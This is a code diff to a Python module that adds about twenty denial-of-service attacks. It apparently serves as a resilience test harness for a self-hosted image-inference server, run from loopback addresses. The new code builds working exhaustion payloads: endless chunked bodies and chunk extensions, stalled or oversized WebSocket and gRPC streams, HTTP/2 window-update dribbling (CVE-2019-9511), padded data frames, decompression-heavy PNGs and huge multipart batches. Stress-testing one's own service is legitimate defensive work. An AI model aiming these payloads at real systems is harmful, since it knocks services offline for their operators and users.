@@ -21,6 +21,7 @@ import ssl
 import statistics
 import struct
 import time
+import zlib
 from collections import Counter
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
@@ -30,7 +31,7 @@ POST = b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Type: image/jpeg\r\nConten
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 ATTACKER, OTHER = "127.0.0.2", "127.0.0.3"  # of Linux's loopback, each with ports of its own
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
-END_STREAM, END_HEADERS = 1, 4
+END_STREAM, END_HEADERS, PADDED = 1, 4, 8
 BATCH = 64  # frames or requests that are sent at once
 
 
@@ -52,6 +53,9 @@ OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")
 GET = head(p_method="GET", p_path="/q/health/live", p_scheme="http", p_authority="a")
 POSTED = head(p_method="POST", p_path="/predict", p_scheme="http", p_authority="a", content_type="image/jpeg",
               content_length="5000")
+LARGE = head(p_method="GET", p_path="/q/openapi", p_scheme="http", p_authority="a")
+STREAMED = head(p_method="POST", p_path="/inference.GRPCInferenceService/ModelStreamInfer", p_scheme="http", p_authority="a",
+                content_type="application/grpc", te="trailers")
 
 
 def http2_posts(streams: int) -> bytes:
@@ -141,6 +145,68 @@ def endless(content: bytes) -> Iterator[bytes]:
     return itertools.repeat(content)
 
 
+def chunked(path: str, kind: str, repeated: bytes) -> Iterator[bytes]:
+    """A body in chunks that goes on and on."""
+    yield "\r\n".join([f"POST {path} HTTP/1.1", "Host: a", f"Content-Type: {kind}", "Transfer-Encoding: chunked", "", ""]).encode()
+    yield from itertools.repeat(repeated)
+
+
+def websocket(kind: int, final: bool, payload: bytes, announced: int | None = None) -> bytes:
+    """A frame, masked with zeros."""
+    length = len(payload) if announced is None else announced
+    head = bytes([kind | (0x80 if final else 0)])
+    head += bytes([0x80 | length]) if length < 126 else bytes([0xFE]) + struct.pack(">H", length) if length < 65536 else (
+        bytes([0xFF]) + struct.pack(">Q", length))
+    return head + bytes(4) + payload
+
+
+def live(*frames: bytes, first: bytes = b"") -> Iterator[bytes]:
+    """A WebSocket that sends these frames again and again; or the first one only, if there are no others."""
+    yield get("/predict/live", *UPGRADE) + first
+    if frames:
+        yield from itertools.repeat(b"".join(frames))
+
+
+def streams_of_messages(streams: int, message: bytes, repeated: bytes = b"") -> Iterator[bytes]:
+    """Streams of gRPC that each begin with the same bytes, and go on with others for ever, if there are any."""
+    begins = [frame(HEADERS, END_HEADERS, 2 * i + 1, STREAMED) + frame(DATA, 0, 2 * i + 1, message) for i in range(streams)]
+    yield OPENING + b"".join(begins)
+    if repeated:
+        more = b"".join(frame(DATA, 0, 2 * i + 1, repeated) for i in range(streams))
+        yield from itertools.repeat(more)
+
+
+def dribbled() -> Iterator[bytes]:
+    """Large responses that are allowed a byte at a time: CVE-2019-9511."""
+    yield PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
+    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, LARGE) for i in range(100))
+    for stream in itertools.cycle(range(1, 200, 2)):
+        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) * BATCH
+
+
+def padded_data() -> Iterator[bytes]:
+    """A body whose frames are padding, but for a byte."""
+    yield OPENING + frame(HEADERS, END_HEADERS, 1, head(p_method="POST", p_path="/predict", p_scheme="http", p_authority="a",
+                                                        content_type="image/jpeg"))
+    yield from itertools.repeat(frame(DATA, PADDED, 1, b"\xff" + bytes(256)) * BATCH)
+
+
+def png(side: int) -> bytes:
+    """A black square, in few bytes."""
+    def chunk(kind: bytes, content: bytes) -> bytes:
+        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
+
+    rows = zlib.compress(bytes((side + 1) * side), 9)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)) + chunk(b"IDAT", rows)
+            + chunk(b"IEND", b""))
+
+
+def many_files(count: int, content: bytes) -> bytes:
+    """A form with files of the same content."""
+    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'
+    return (part + content + b"\r\n") * count + b"--b--\r\n"
+
+
 @dataclass(frozen=True)
 class Attack:
     """What an attacker does: it opens connections, sends what each has to, and reads what comes, or does not."""
@@ -154,6 +220,7 @@ class Attack:
 FORM = "multipart/form-data; boundary=b"
 UPGRADE = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
 RANGES = "Range: bytes=" + ",".join(["0-"] * 1000)
+BINARY, WS_PING = 2, 9  # frames of a WebSocket
 HELLO = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])  # the beginning of a ClientHello of 512 bytes
 
 ATTACKS = {
@@ -187,6 +254,27 @@ ATTACKS = {
     "nested": Attack(20, lambda body=gzip.compress(gzip.compress(gzip_bomb())): endless(
         post("/predict", "application/json", body, "Content-Encoding: gzip, gzip, gzip"))),
     "parts": Attack(20, lambda body=many_parts(): endless(post("/predict", FORM, body))),
+    "chunks": Attack(20, lambda: chunked("/predict", "image/jpeg", b"1\r\na\r\n" * BATCH)),
+    "chunk-extensions": Attack(20, lambda: chunked("/predict", "image/jpeg", b"1;" + b"a=b;" * 900 + b"\r\na\r\n")),
+    "trailers": Attack(20, lambda: itertools.chain(
+        (next(chunked("/predict", "image/jpeg", b"")) + b"1\r\na\r\n0\r\n",), itertools.repeat(b"X-A: " + b"a" * 100 + b"\r\n"))),
+    "live-halves": Attack(16, lambda: live(first=websocket(BINARY, True, b"a" * 2_000_000, 2_000_001)), reads=False),
+    "live-parts": Attack(16, lambda: live(websocket(0, False, b"") * BATCH, first=websocket(BINARY, False, b"a" * 1_000_000))),
+    "live-pings": Attack(16, lambda: live(websocket(WS_PING, True, b"a" * 125) * BATCH)),
+    "live-unread": Attack(16, lambda: live(websocket(WS_PING, True, b"a" * 125) * BATCH), reads=False),
+    "live-pngs": Attack(16, lambda image=png(12_000): live(websocket(BINARY, True, image))),
+    "grpc-stalled": Attack(8, lambda: streams_of_messages(100, struct.pack(">BI", 0, 5_000_000))),
+    "grpc-empty": Attack(8, lambda: streams_of_messages(100, bytes(5), bytes(5) * 100)),
+    "grpc-bombs": Attack(8, lambda: streams_of_messages(100, struct.pack(">BI", 1, 10) + gzip.compress(b"")[:10])),
+    "dribble": Attack(8, dribbled),
+    "padding": Attack(8, padded_data),
+    "pngs": Attack(40, lambda image=png(9_000): endless(post("/predict", "image/png", image))),
+    "explain": Attack(40, lambda image=png(9_000): endless(post("/explain", "image/png", image))),
+    "explain-masks": Attack(40, lambda image=png(4_000): endless(post("/explain?method=occlusion", "image/png", image))),
+    "batches": Attack(20, lambda image=png(2_000): endless(post("/predict/batch", FORM, many_files(30, image)))),
+    "batch-of-nothing": Attack(20, lambda: endless(post("/predict/batch", FORM, many_files(20_000, b"")))),
+    "results": Attack(20, lambda: requests(lambda i: get(f"/results/{i:x}"))),
+    "later": Attack(20, lambda image=png(2_000): endless(post("/predict", "image/png", image, "Prefer: respond-async"))),
     "part-heads": Attack(20, lambda body=giant_part_head(): endless(post("/predict", FORM, body))),
 }
 
